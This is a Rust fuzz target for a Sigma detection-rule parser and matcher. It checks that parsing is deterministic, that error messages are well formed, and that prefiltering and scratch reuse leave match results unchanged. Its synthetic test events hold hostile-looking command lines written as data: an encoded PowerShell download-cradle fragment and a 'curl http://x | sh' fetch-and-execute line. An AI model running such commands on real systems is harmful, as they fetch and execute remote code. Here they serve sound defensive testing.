//! Fuzzes the Sigma rule parser and checks properties of what it returns.
//!
//! Properties (see fuzz/README.md):
//! 1. Parsing is deterministic: the same text parses twice to the same
//!    number of documents (same kinds, titles, lines) and the same errors.
//! 2. Every error's Display is non-empty and starts with the path given
//!    (`fuzz.yml:`).
//! 3. The literal prefilter never changes results: rule sets built from the
//!    parsed documents with and without the prefilter return the same
//!    matches on a fixed set of events, under an empty log-source mapping
//!    and under the built-in one.
//! 4. Reusing one `Scratch` across rule sets and events changes nothing.
#![no_main]

use libfuzzer_sys::fuzz_target;
use std::sync::{Arc, OnceLock};
use vigil_event::{Event, Value};
use vigil_sigma::rule::parse_file;
use vigil_sigma::{Document, LogSourceMap, Match, Placeholders, RuleSet, RuleSetBuilder, Scratch};

const PATH: &str = "fuzz.yml";

/// Placeholders for `expand`, so that `%Admins%` style values can compile
/// (an unknown placeholder is an error, which is also exercised).
fn placeholders() -> &'static Placeholders {
    static P: OnceLock<Placeholders> = OnceLock::new();
    P.get_or_init(|| {
        let mut p = Placeholders::new();
        p.insert("Admins".into(), vec!["admin*".into(), "root".into()]);
        p.insert(
            "DomainControllers".into(),
            vec!["dc01".into(), "dc02.corp.local".into()],
        );
        p.insert("Empty".into(), Vec::new());
        p
    })
}

fn builtin_map() -> &'static LogSourceMap {
    static M: OnceLock<LogSourceMap> = OnceLock::new();
    M.get_or_init(LogSourceMap::builtin)
}

/// Fixed synthetic events.
fn fixed_events() -> &'static [Event] {
    static E: OnceLock<Vec<Event>> = OnceLock::new();
    E.get_or_init(|| {
        let mut out = vec![Event::new()];

        let mut e = Event::new();
        e.push("CommandLine", "cmd.exe /c whoami");
        e.push("EventID", 4688i64);
        e.push("Image", "C:\\Windows\\System32\\cmd.exe");
        out.push(e);

        let mut e = Event::new();
        e.push("Channel", "Security");
        e.push("EventID", 4688i64);
        e.push("NewProcessName", "C:\\Windows\\System32\\whoami.exe");
        e.push("CommandLine", "whoami /all");
        e.push("SubjectUserName", "Administrator");
        out.push(e);

        let mut e = Event::new();
        e.push("Channel", "Microsoft-Windows-Sysmon/Operational");
        e.push("EventID", 1i64);
        e.push("Image", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
        e.push("ParentImage", "C:\\Windows\\explorer.exe");
        // "IEX (New-Object Net.WebClient)" in UTF-16LE base64, as -enc takes.
        e.push(
            "CommandLine",
            "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        );
        e.push("User", "CORP\\admin");
        e.push("OriginalFileName", "PowerShell.EXE");
        e.push("Hashes", "MD5=0123456789ABCDEF0123456789ABCDEF,SHA256=00");
        e.push("IntegrityLevel", "High");
        out.push(e);

        let mut e = Event::new();
        e.push("Channel", "Microsoft-Windows-Sysmon/Operational");
        e.push("EventID", 3i64);
        e.push("DestinationIp", "10.1.2.3");
        e.push("SourceIp", "fe80::1");
        e.push("DestinationPort", 445i64);
        e.push("Initiated", "true");
        e.push("Image", "C:\\Users\\Public\\a.exe");
        out.push(e);

        let mut e = Event::new();
        e.meta.product = Some("linux".into());
        e.push("CommandLine", "/bin/sh -c 'curl http://x | sh'");
        e.push("Image", "/usr/bin/curl");
        e.push("User", "root");
        e.push("TargetUserName", "root");
        out.push(e);

        let mut e = Event::new();
        e.meta.product = Some("windows".into());
        e.meta.timestamp_ns = Some(1_700_000_000_000_000_000);
        e.push("Null", Value::Null);
        e.push("Bool", Value::Bool(true));
        e.push("Float", Value::Float(1.5));
        e.push("Big", Value::Int(i64::MIN));
        e.push(
            "List",
            Value::List(vec![Value::from("a"), Value::Int(7), Value::Null]),
        );
        e.push("Image", "");
        e.push("Image", "C:\\dup.exe");
        e.push("CommandLine", "\u{2013}enc \u{0130}stanbul \u{212A}");
        out.push(e);
        out
    })
}

/// An event made from the input's own `key: value` lines, so that rules
/// written by the fuzzer have a chance to match (and so exercise the
/// prefilter's positive paths). List items are pushed under the last key.
fn derived_event(text: &str) -> Event {
    let unquote = |s: &str| {
        let s = s.trim();
        let s = s
            .strip_prefix('\'')
            .and_then(|s| s.strip_suffix('\''))
            .or_else(|| s.strip_prefix('"').and_then(|s| s.strip_suffix('"')))
            .unwrap_or(s);
        s.to_string()
    };
    let mut e = Event::new();
    let mut last_key = String::from("Keyword");
    for line in text.lines().take(256) {
        if e.len() >= 64 {
            break;
        }
        let line = line.trim();
        let (is_item, line) = match line.strip_prefix("- ") {
            Some(rest) => (true, rest),
            None => (false, line),
        };
        let (key, value) = match line.split_once(':') {
            Some((k, v)) if !k.contains(' ') || k.starts_with(['\'', '"']) => {
                (Some(unquote(k)), unquote(v))
            }
            _ => (None, unquote(line)),
        };
        if let Some(k) = key {
            let field = k.split('|').next().unwrap_or_default().to_string();
            if !field.is_empty() {
                last_key = field;
            }
        } else if !is_item {
            continue;
        }
        if value.is_empty() {
            continue;
        }
        let v = value.replace('*', "x").replace('?', "y");
        match v.parse::<i64>() {
            Ok(n) => e.push(last_key.as_str(), n),
            Err(_) => e.push(last_key.as_str(), v),
        }
    }
    e
}

fn build(docs: &[Document], map: &LogSourceMap, prefilter: bool) -> RuleSet {
    let mut b = RuleSetBuilder::new();
    b.logsources(map.clone())
        .prefilter(prefilter)
        .add_documents(docs.to_vec());
    b.build()
}

fn check_sets(
    label: &str,
    with: &RuleSet,
    without: &RuleSet,
    events: &[&Event],
    shared: &mut Scratch,
    text: &str,
) {
    assert_eq!(with.len(), without.len(), "{label}: rule counts differ");
    for (i, event) in events.iter().enumerate() {
        let reference: Vec<Match> = without.matches(event, &mut Scratch::default()).to_vec();
        let fast: Vec<Match> = with.matches(event, &mut Scratch::default()).to_vec();
        assert_eq!(
            fast, reference,
            "{label}: prefilter changed the matches of event #{i} {event:?}\nrule text:\n{text}"
        );
        // The same scratch reused across sets and events must not matter.
        let reused: Vec<Match> = with.matches(event, shared).to_vec();
        assert_eq!(
            reused, reference,
            "{label}: reused Scratch changed the matches of event #{i} (prefilter on)"
        );
        let reused: Vec<Match> = without.matches(event, shared).to_vec();
        assert_eq!(
            reused, reference,
            "{label}: reused Scratch changed the matches of event #{i} (prefilter off)"
        );
        for m in &reference {
            assert!(m.rule < without.len(), "{label}: match index out of range");
        }
        assert!(
            reference.windows(2).all(|w| w[0].rule < w[1].rule),
            "{label}: matches not sorted and unique: {reference:?}"
        );
    }
}

fn doc_summary(d: &Document) -> (bool, String, usize) {
    match d {
        Document::Rule(r) => (true, r.title.clone(), r.line),
        Document::Filter(f) => (false, f.title.clone(), f.line),
    }
}

fuzz_target!(|data: &[u8]| {
    let Ok(text) = std::str::from_utf8(data) else {
        return;
    };
    let path: Arc<str> = PATH.into();
    let (docs, errors) = parse_file(Some(path.clone()), text, placeholders());
    let (docs2, errors2) = parse_file(Some(path), text, placeholders());

    // (a) Determinism.
    assert_eq!(docs.len(), docs2.len(), "document count differs between parses");
    let s1: Vec<_> = docs.iter().map(doc_summary).collect();
    let s2: Vec<_> = docs2.iter().map(doc_summary).collect();
    assert_eq!(s1, s2, "documents differ between parses");
    let e1: Vec<String> = errors.iter().map(|e| e.to_string()).collect();
    let e2: Vec<String> = errors2.iter().map(|e| e.to_string()).collect();
    assert_eq!(e1, e2, "errors differ between parses");

    // (b) Errors are displayable and name the file.
    for e in &e1 {
        assert!(!e.is_empty(), "empty error message");
        assert!(
            e.starts_with("fuzz.yml:"),
            "error does not start with the path: {e:?}"
        );
    }
    // Every document either loaded or produced an error; a non-empty input
    // never vanishes silently.
    if docs.is_empty() {
        assert!(!errors.is_empty(), "no documents and no errors");
    }

    if docs.is_empty() {
        return;
    }

    // (c) The prefilter never changes results.
    let derived = derived_event(text);
    let mut derived_sysmon = derived.clone();
    derived_sysmon.set("Channel", "Microsoft-Windows-Sysmon/Operational");
    derived_sysmon.set("EventID", 1i64);
    let mut events: Vec<&Event> = fixed_events().iter().collect();
    events.push(&derived);
    events.push(&derived_sysmon);

    let mut shared = Scratch::default();
    let empty = LogSourceMap::empty();
    let with = build(&docs, &empty, true);
    let without = build(&docs, &empty, false);
    check_sets("empty mapping", &with, &without, &events, &mut shared, text);

    let with = build(&docs, builtin_map(), true);
    let without = build(&docs, builtin_map(), false);
    check_sets("builtin mapping", &with, &without, &events, &mut shared, text);
});
